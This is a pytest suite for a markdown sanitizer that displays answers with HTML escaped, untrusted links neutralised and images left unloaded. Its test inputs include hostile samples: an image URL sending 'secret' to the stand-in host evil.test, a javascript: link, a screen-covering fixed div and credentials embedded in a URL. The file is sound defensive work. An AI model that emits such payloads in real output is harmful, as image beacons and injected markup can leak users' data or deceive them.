"""An answer keeps its markdown, and nothing in it loads or hides."""

import html

import pytest

from app.ui.markdown import show_answer


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("plain **bold** text", "plain **bold** text"),
        ("use <b> here", "use &#x0003C;b> here"),
        ("<form action=x><input>", "&#x0003C;form action=x>&#x0003C;input>"),
        ("`<b>` stays", "`<b>` stays"),
        ("``a ` <b>`` stays", "``a ` <b>`` stays"),
        ("```html\n<b>\n```\n<i>", "```html\n<b>\n```\n&#x0003C;i>"),
        ("~~~\n<b>\n", "~~~\n<b>\n"),
        ("- item\n  ```\n  <b>\n  ```\n<i>", "- item\n  ```\n  <b>\n  ```\n&#x0003C;i>"),
        ("\\(a < b\\)", "\\(a \\lt  b\\)"),
        ("<https://example.org/a>", "<https://example.org/a>"),
        ("a ` lone tick <b>\n\n`", "a ` lone tick &#x0003C;b>\n\n`"),
        ("[a]: x '\n```\n<b>\n```", "&#x0005B;a]: x '\n```\n<b>\n```"),
        ("[a\n```\n]: x\n```\n", "&#x0005B;a\n```\n]: x\n```\n"),
        ("![a][ref]", "&#x00021;[a][ref]"),
        ("I paid $5 and $10", "I paid $5 and $10"),
    ],
)
def test_an_answer_keeps_its_markdown_and_loses_its_html(written: str, shown: str) -> None:
    assert show_answer(written) == shown


def test_a_diagram_makes_no_elements_of_its_labels() -> None:
    shown = show_answer('```mermaid\nA["<img src=x>"] <--> B[</b>]\nB <|-- C\n```\n')
    assert shown == '```mermaid\nA["#lt;img src=x>"] <--> B[#lt;/b>]\nB <|-- C\n```\n'
    assert show_answer("```html\n<b>mermaid\n```") == "```html\n<b>mermaid\n```"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("ftp://a.example/b.", "&#x00066;&#x00074;&#x00070;://a.example/b."),
        ("<https://a>", "&#x0003C;https&#x0003A;&#x0002F;&#x0002F;a&#x0003E;"),
        ("x <HTTPS://a>", "x &#x0003C;&#x00048;&#x00054;&#x00054;&#x00050;&#x00053;://a>"),
        ("See WWW.a.example", "See &#x00057;&#x00057;&#x00057;.a.example"),
        ("Write to a@b.example", "Write to a&#x00040;b.example"),
        ("[x](javascript:y)", "[x&#x0005D;(javascript:y)"),
        ("[x][y]", "[x&#x0005D;[y]"),
        ("`https://a.example` is code", "`https://a.example` is code"),
        ("$$ www.a $$", "$$ www. a $$"),
        ("```mermaid\nclick A\n```", "```text\nclick A\n```"),
        ("At 3 (so) a: b, 5 > 4 [1].", "At 3 (so) a: b, 5 > 4 [1]."),
    ],
)
def test_what_may_come_from_a_strangers_file_leads_nowhere(written: str, shown: str) -> None:
    assert show_answer(written, has_links=False) == shown


COVER = "<div style='position:fixed'>cover</div>"


@pytest.mark.parametrize(
    "before",
    [
        "``` a`b\n",
        "http://a`",
        "x~`",
        "$$ `$$",
        "text\n~~~",
        "- `a\n- ",
        "`a\n\n",
        "`a\n# ",
        "`` a\n`` ",
        "\\`",
        "[a](`) ",
        "[a](x '\n`') ",
        "| a | b |\n|---|---|\n| `a | ",
        "text\n    ```\n",
        "text\n2. a\n    ```\n",
        "- - -\n\n  text\n    ```\n",
        "- ```\n",
        "- a\n  ```\n",
        "> ```\n",
        "> - a\n>   ```\n> ",
        "text\n2. ```\n   b\n   ```\n   ",
        "```\na\n   ```\n",
        "```\na\n```~~\n",
        "$$\n```\n$$\n",
        "```\n$$\n```\n$$\n```\n",
        "```\ra\r```\r",
        "a\u2028```\n",
    ],
)
@pytest.mark.parametrize("after", ["", " `", "\n```", "\n    ```\n"])
def test_what_only_looks_like_code_lets_no_html_through(before: str, after: str) -> None:
    assert "<div" not in show_answer(f"{before}{COVER}{after}")


@pytest.mark.parametrize(
    "text",
    [
        "````\n```\n<b>\n```\n````",
        "```\n<b>\n~~~\n  <i>\n``\n```",
        "1. Build:\n    ```sh\n    a <b>\n    ```",
        "1. Build:\n\n    ```sh\n    a <b>\n\n    c <d>\n    ```",
        "2. Build:\n   ```sh\n   a <b>\n   ```\n3. Run:\n   ```sh\n   c <d>\n   ```",
        "> ```\n> <b>\n> ```",
        "- ```\n  <b>\n  ```",
        "Use `<b>` and ``<i>`` here",
        "| a |\n|---|\n| `<b>` |",
    ],
)
def test_what_is_code_stays_as_written(text: str) -> None:
    assert show_answer(text) == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](http://evil.test/?d=secret)", "[image blocked: evil.test]"),
        ('![x]( <http://evil.test/a b> "t")', "[image blocked: evil.test]"),
        ("![](https://user:pw@evil.test:8/a.png)", "[image blocked: evil.test]"),
        ("![x](data:image/png;base64,AAAA)", "[image blocked: no address]"),
        ("![x](http://[bad)", "[image blocked: no address]"),
        ("see ![x](//evil.test/a) there", "see [image blocked: evil.test] there"),
    ],
)
def test_an_image_is_named_and_never_loaded(written: str, shown: str) -> None:
    assert html.unescape(show_answer(written)) == shown
